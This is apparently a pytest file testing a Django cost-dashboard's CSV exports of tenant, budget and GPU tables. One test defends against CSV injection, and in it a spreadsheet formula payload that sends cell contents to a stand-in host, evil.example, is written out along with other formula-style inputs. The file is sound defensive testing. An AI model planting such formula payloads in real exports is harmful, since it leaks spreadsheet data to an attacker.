"""CSV exports: every table of every page downloads as a CSV file named after it, holding the rows
the page shows with numbers unformatted (plain decimals, fractions, empty where not measured)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from finops.lib.tables import cell
from tests.finops.budget_factories import budget
from tests.finops.dashboard_factories import logged_in, runtime_samples, traffic
from tests.finops.factories import batch_body, event_dict

pytestmark = pytest.mark.django_db


@pytest.fixture
def pm() -> Client:
    return logged_in("product-manager", "pat")


def rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_the_tenants_table_exports_with_unformatted_numbers(pm: Client) -> None:
    traffic()
    response = pm.get("/tenants/?format=csv&table=tenants")
    assert response["Content-Disposition"].startswith('attachment; filename="tenants-')
    assert response["Content-Disposition"].endswith('.csv"')
    by_tenant = {row["tenant"]: row for row in rows(response)}
    assert set(by_tenant) == {"acme", "globex"}
    assert by_tenant["acme"]["requests"] == "3"
    assert Decimal(by_tenant["acme"]["list_cost_usd"]) == Decimal("3")
    assert by_tenant["globex"]["rejection_rate"] == str(1 / 3)
    assert by_tenant["acme"]["energy_joules"] == ""  # not measured: empty, not 0


def test_an_export_follows_the_filters_in_the_url(pm: Client) -> None:
    traffic()
    exported = rows(pm.get("/features/?format=csv&table=features&tenant=globex"))
    assert [row["feature"] for row in exported] == ["search"]


def test_the_export_link_on_the_page_carries_the_filters(pm: Client) -> None:
    traffic()
    page = pm.get("/features/?range=7d&tenant=acme").content.decode()
    assert 'href="/features/?range=7d&amp;tenant=acme&amp;format=csv&amp;table=features"' in page


def test_a_detail_page_exports_its_end_users_and_budgets(pm: Client) -> None:
    traffic()
    budget(name="acme monthly", tenant="acme", limit="10")
    users = rows(pm.get("/tenants/acme/?format=csv&table=end-users"))
    assert [(u["end_user"], u["requests"], Decimal(u["list_cost_usd"])) for u in users] == [
        ("alice", "2", Decimal("2.5")), ("bob", "1", Decimal("0.5"))]
    budgets = rows(pm.get("/tenants/acme/?format=csv&table=budgets"))
    assert budgets[0]["budget"] == "acme monthly"
    assert Decimal(budgets[0]["used"]) == 3 and Decimal(budgets[0]["limit"]) == 10


FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Your invoice")'


def test_a_formula_sent_as_the_openai_user_exports_as_text(pm: Client, post_batch: Any) -> None:
    """CSV injection: a client-chosen text that starts like a formula is written with a leading single
    quote, so a spreadsheet shows it instead of running it (OWASP's advice)."""
    hostile = [FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)"]  # a leading tab or CR: ingest refuses those
    records = [event_dict(end_user=user) for user in [*hostile, "alice", "a=b"]]
    assert post_batch(batch_body(events=records)).json()["accepted"] == len(records)

    users = {u["end_user"] for u in rows(pm.get("/tenants/acme/?format=csv&table=end-users"))}

    assert users == {*(f"'{user}" for user in hostile), "alice", "a=b"}


def test_a_cell_starting_with_a_tab_or_a_carriage_return_is_text_too() -> None:
    """Names stored before ingest refused control characters may still start with one."""
    assert [cell("\t=1+1"), cell("\r=1+1"), cell("\t")] == ["'\t=1+1", "'\r=1+1", "'\t"]


def test_numbers_in_an_export_stay_numbers_negative_ones_included() -> None:
    assert [cell(Decimal("-1.50")), cell(-3), cell(-0.25), cell("-0.25")] == ["-1.50", "-3", "-0.25", "'-0.25"]


def test_the_gpu_page_exports_runtimes_devices_idle_capacity_and_energy(pm: Client) -> None:
    runtime_samples("gpu-1", timezone.now(), gpu=True)
    runtimes = rows(pm.get("/gpus/?format=csv&table=runtimes"))
    assert runtimes[0]["runtime"] == "gpu-1" and runtimes[0]["gpu_util_avg_percent"] == "80.0"
    devices = rows(pm.get("/gpus/?format=csv&table=devices"))
    assert devices[0]["mem_total_bytes"] == str(80 * 2**30)
    idle = rows(pm.get("/gpus/?format=csv&table=idle"))
    assert idle[0]["device"].startswith("GPU-") and float(idle[0]["idle_seconds"]) > 0
    assert rows(pm.get("/gpus/?format=csv&table=energy")) == []


def test_a_cpu_runtime_exports_empty_cells_for_gpu_figures(pm: Client) -> None:
    runtime_samples("rt-1", timezone.now())
    runtime = rows(pm.get("/gpus/?format=csv&table=runtimes"))[0]
    assert runtime["gpu_util_avg_percent"] == "" and runtime["power_avg_w"] == "" and runtime["energy_joules"] == ""
    assert runtime["samples"] == "60"


def test_an_unknown_table_is_a_400_naming_the_tables(pm: Client) -> None:
    response = pm.get("/gpus/?format=csv&table=secrets")
    assert response.status_code == 400
    assert "runtimes, devices, idle, energy" in response.content.decode()


def test_exports_need_a_login(client: Client) -> None:
    response = client.get("/tenants/?format=csv&table=tenants")
    assert response.status_code == 302


def test_the_budget_list_exports_its_budgets_and_alerts(pm: Client) -> None:
    traffic()
    budget(name="acme monthly", tenant="acme", limit="10")
    page = pm.get("/budgets/").content.decode()
    assert 'href="?format=csv&amp;table=budgets"' in page and 'href="?format=csv&amp;table=alerts"' in page
    response = pm.get("/budgets/?format=csv&table=budgets")
    assert response["Content-Disposition"] == 'attachment; filename="budgets.csv"'
    exported = rows(response)
    assert exported[0]["budget"] == "acme monthly" and Decimal(exported[0]["used"]) == 3
    alerts = pm.get("/budgets/?format=csv&table=alerts")
    assert alerts["Content-Disposition"] == 'attachment; filename="budget-alerts.csv"'
    assert rows(alerts) == []
